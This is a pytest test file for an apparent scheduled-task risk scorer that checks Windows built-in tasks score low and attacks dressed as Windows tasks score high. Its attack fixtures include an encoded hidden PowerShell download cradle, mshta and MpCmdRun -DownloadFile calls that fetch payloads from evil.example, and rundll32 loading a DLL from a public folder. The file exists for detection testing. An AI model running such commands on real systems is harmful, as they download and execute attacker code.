# Copyright: (c) 2026, taskguard contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Windows' own tasks of a build without a baseline must not look like attacks,
and attacks dressed as Windows tasks must still score (issue 15 point 3, issue 16).

The built-in half runs the authentic Windows 10 task folder through the rules with
*no* inventory at all, i.e. as a built-in of a Windows build whose baseline is
missing or thin would be judged."""
from __future__ import annotations

import os
import shutil

import pytest

from ansible_collections.taskguard.windows.plugins.plugin_utils.risk import SEVERITY_RANK, load_rules
from ansible_collections.taskguard.windows.plugins.plugin_utils.task_collection import collect_offline_tasks

RULES = load_rules()
AUTHENTIC = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..", "fixtures", "authentic", "tasks"))
SYSTEM = {"user_id": "S-1-5-18"}
B64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"


def score(path, command, arguments=None, *, kind="exec", triggers=("daily",), principal=None):
    task = {"path": path, "principal": dict(principal or SYSTEM), "triggers": [{"type": t} for t in triggers],
            "actions": [{"type": kind, "command": command, "arguments": arguments}]}
    result = RULES.evaluate(task, {"documented": False})
    return result["severity"], {r["rule"] for r in result["reasons"]}


def at_least(severity, level):
    return severity is not None and SEVERITY_RANK[severity] >= SEVERITY_RANK[level]


@pytest.mark.skipif(not os.path.isdir(AUTHENTIC), reason="authentic task folders absent")
def test_windows_10_built_ins_without_any_baseline_stay_below_medium(tmp_path):
    root = tmp_path / "evidence"
    shutil.copytree(os.path.join(AUTHENTIC, "win10-aptsim"), root / "Windows" / "System32" / "Tasks")
    tasks = collect_offline_tasks(str(root))["tasks"]
    windows = [t for t in tasks if t["path"].lower().startswith("\\microsoft\\windows\\")]
    assert len(windows) > 150
    loud = {t["path"]: RULES.evaluate(t, {"documented": False})["severity"] for t in windows}
    assert {p: s for p, s in loud.items() if at_least(s, "medium")} == {}
    # and the planted attack in the same folder is still critical
    gameover = next(t for t in tasks if t["path"] == "\\GameOver")
    assert RULES.evaluate(gameover, {"documented": False})["severity"] == "critical"


@pytest.mark.parametrize("path,command,arguments,kind", [
    ("\\Microsoft\\Windows\\Ras\\MobilityManager", None, None, "com_handler"),          # Windows 11 built-in
    ("\\Microsoft\\Windows\\Autochk\\Proxy", "%windir%\\system32\\rundll32.exe", "/d acproxy.dll,PerformAutochkOperations", "exec"),
    ("\\Microsoft\\Windows\\UPnP\\UPnPHostConfig", "sc.exe", "config upnphost start= auto", "exec"),
    ("\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan",
     "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe",
     "Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob", "exec"),
])
def test_windows_built_ins_of_any_build_stay_below_medium(path, command, arguments, kind):
    severity, rules = score(path, command, arguments, kind=kind, triggers=("boot",))
    assert not at_least(severity, "medium"), (severity, rules)


@pytest.mark.parametrize("path,command,arguments", [
    ("\\Microsoft\\VisualStudio\\Updates\\BackgroundDownload",
     "C:\\Program Files (x86)\\Microsoft Visual Studio\\Installer\\resources\\app\\ServiceHub\\Services\\"
     "Microsoft.VisualStudio.Setup.Service\\BackgroundDownload.exe", None),
    ("\\Microsoft\\Office\\Office Automatic Updates 2.0",
     "C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe", "/frequentupdate SCHEDULEDTASK"),
])
def test_microsoft_products_are_not_masquerade_by_their_folder(path, command, arguments):
    severity, rules = score(path, command, arguments, triggers=("logon",))
    assert "TG-R009" not in rules and not at_least(severity, "high"), (severity, rules)


@pytest.mark.parametrize("path,command,arguments,expected", [
    ("\\Microsoft\\SynchronizeTimeZone", "adf", None, "high"),                        # FortiGate APT masquerade
    ("\\Microsoft\\Windows\\WindowsUpdate\\Refresh", "C:\\Users\\Public\\upd.exe", None, "high"),
    ("\\Microsoft\\Windows\\Maintenance\\Cleanup", "%windir%\\system32\\rundll32.exe",
     "C:\\Users\\Public\\x.dll,Start", "medium"),
    ("\\Microsoft\\Windows\\Maintenance\\Cleanup", "%windir%\\system32\\cmd.exe",
     "/c whoami > %windir%\\Temp\\o.txt 2>&1", "high"),
    ("\\Microsoft\\Windows\\Maintenance\\Cleanup", "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "-nop -w hidden -enc " + B64, "high"),
    ("\\Microsoft\\Windows\\Maintenance\\Cleanup", "%windir%\\system32\\mshta.exe",
     "https://evil.example/x.hta", "medium"),
    ("\\Defender", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe",
     "-DownloadFile -url https://evil.example/p.exe -path C:\\Users\\Public\\p.exe", "high"),
])
def test_attacks_dressed_as_windows_tasks_still_score(path, command, arguments, expected):
    severity, rules = score(path, command, arguments, triggers=("boot",))
    assert at_least(severity, expected), (severity, rules)
